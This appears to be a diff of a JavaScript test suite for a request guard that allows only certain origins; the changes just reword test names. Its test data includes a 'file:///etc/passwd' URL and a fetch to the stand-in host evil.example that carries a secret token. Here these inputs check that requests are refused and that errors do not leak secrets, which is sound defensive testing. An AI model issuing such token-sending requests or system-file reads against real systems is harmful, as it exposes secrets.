@@ -63,7 +63,7 @@ describe('allowed origins', () => {
     ['the allowed host with a user name', 'https://someone:secret@api.provider.example/'],
     ['a text that is not a URL', 'api.provider.example'],
     ['a file URL', 'file:///etc/passwd'],
-  ])('a request to %s is refused', async (_, url) => {
+  ])('a request to %s is rejected', async (_, url) => {
     let asked = 0;
     const io = ioFor(['https://api.provider.example'], {
       fetch: async () => {
@@ -97,7 +97,7 @@ describe('allowed origins', () => {
     'https://api.provider.example/v1',
     'ftp://api.provider.example',
     'api.provider.example',
-  ])('%s is refused as a manifest’s origin', (origin) => {
+  ])('%s is rejected as a manifest’s origin', (origin) => {
     expect(() => ioFor([origin])).toThrow(IoFault);
   });
 
@@ -165,7 +165,7 @@ describe('the error of a request', () => {
     });
   });
 
-  test('contains neither the URL nor what was sent, in message, cause and stack', async () => {
+  test('does not contain the URL or the sent data in its message, cause or stack', async () => {
     const secret = 'hunter2';
     const faults = await Promise.all([
       faultOf(ioFor([]).fetch(`https://evil.example/?token=${secret}`)),
